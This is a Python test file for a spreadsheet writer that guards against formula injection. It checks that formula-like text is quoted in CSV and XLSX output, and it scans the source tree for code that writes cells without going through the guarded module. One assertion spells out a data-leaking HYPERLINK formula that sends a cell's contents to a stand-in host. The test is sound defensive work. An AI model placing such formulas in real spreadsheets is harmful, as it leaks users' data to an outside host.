import ast
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook

from lantoa.core.cells import append_row, csv_text, looks_like_formula, neutralise, put
from tests.core.cells_support import HOSTILE_TEXTS, inert_csv_fields, inert_xlsx_cells, typed_texts

SRC = Path(__file__).resolve().parents[2] / "src" / "lantoa"
WRITER = SRC / "core" / "cells.py"
_CELL_REF = re.compile(r"^[A-Z]{1,3}[0-9]+$")


@pytest.mark.parametrize("text", [t for t in HOSTILE_TEXTS if t != "#N/A"] + ["\r=1", " \n@x"])
def test_it_sees_formulas_also_behind_leading_blanks(text):
    assert looks_like_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Hội nghị quán triệt", "a=b", "1-2", "", "'=1", "x\n=1"])
def test_it_leaves_ordinary_text_alone(text):
    assert not looks_like_formula(text)
    assert neutralise(text) == text


def test_it_writes_csv_whose_fields_never_run():
    text = csv_text([["Tên", "Số"], *[[value, -3] for value in HOSTILE_TEXTS]])
    fields = inert_csv_fields(text.encode())
    assert '\'=HYPERLINK("http://x/"&B2,"x")' in fields and "' =1" in fields
    assert "-3" in fields  # numbers are not text: a negative number stays a number


def _saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_it_writes_xlsx_text_exactly_as_typed_and_never_as_a_formula():
    book = Workbook()
    sheet = book.active
    append_row(sheet, ["Tiêu đề", "Số"])
    for value in HOSTILE_TEXTS:
        append_row(sheet, [value, 7])
    put(sheet, 20, 3, "=1+1")
    cells = inert_xlsx_cells(_saved(book))
    typed = typed_texts(cells, HOSTILE_TEXTS + ["=1+1"])
    assert set(typed) == {*HOSTILE_TEXTS, "=1+1"} and typed["=1+1"].coordinate == "C20"
    plain = next(cell for cell in cells if cell.value == "Tiêu đề")
    assert plain.data_type == "s" and not plain.quotePrefix
    assert [cell.value for cell in cells if cell.value == 7] == [7] * len(HOSTILE_TEXTS)


def test_it_drops_control_characters_that_xlsx_cannot_hold():
    book = Workbook()
    append_row(book.active, ["Hội\x01 nghị\x1b"])
    assert inert_xlsx_cells(_saved(book))[0].value == "Hội nghị"


def _imports_openpyxl(tree: ast.Module) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            return True
        if isinstance(node, ast.Import) and any(a.name.startswith("openpyxl") for a in node.names):
            return True
    return False


def _builds_workbooks(tree: ast.Module) -> bool:
    """A module writes workbooks when it makes one or opens one it could save."""
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        name = getattr(node.func, "attr", getattr(node.func, "id", ""))
        read_only = any(
            k.arg == "read_only" and getattr(k.value, "value", False) for k in node.keywords
        )
        if name == "Workbook" or (name == "load_workbook" and not read_only):
            return True
    return False


def _bypasses(tree: ast.Module, *, workbook: bool) -> list[str]:
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and getattr(node.value, "id", "") == "csv"
        ):
            found.append(f"line {node.lineno}: csv.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found.append(f"line {node.lineno}: from csv import …")
        if not workbook:
            continue
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            if node.func.attr == "append":
                found.append(f"line {node.lineno}: .append() (use core.cells.append_row)")
            if node.func.attr == "cell" and (
                len(node.args) > 2 or any(k.arg == "value" for k in node.keywords)
            ):
                found.append(f"line {node.lineno}: .cell(value) (use core.cells.put)")
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append(f"line {node.lineno}: .value = (use core.cells.put)")
                if isinstance(target, ast.Subscript) and _CELL_REF.match(
                    str(getattr(target.slice, "value", ""))
                ):
                    found.append(f"line {node.lineno}: sheet[...] = (use core.cells.put)")
    return found


def test_it_is_the_only_writer_of_spreadsheet_cells():
    bypasses = {}
    for path in sorted(SRC.rglob("*.py")):
        if path == WRITER or "migrations" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        workbook = _imports_openpyxl(tree) and _builds_workbooks(tree)
        if found := _bypasses(tree, workbook=workbook):
            bypasses[str(path.relative_to(SRC))] = found
    assert bypasses == {}


def test_it_catches_a_writer_that_bypasses_it():
    source = (
        "import csv\nfrom openpyxl import Workbook\nbook = Workbook()\n"
        "book.active.append(['=1'])\nbook.active.cell(1, 1, '=1')\nbook.active['A1'] = '=1'\n"
        "csv.writer(None)\n"
    )
    tree = ast.parse(source)
    assert len(_bypasses(tree, workbook=_imports_openpyxl(tree) and _builds_workbooks(tree))) == 4
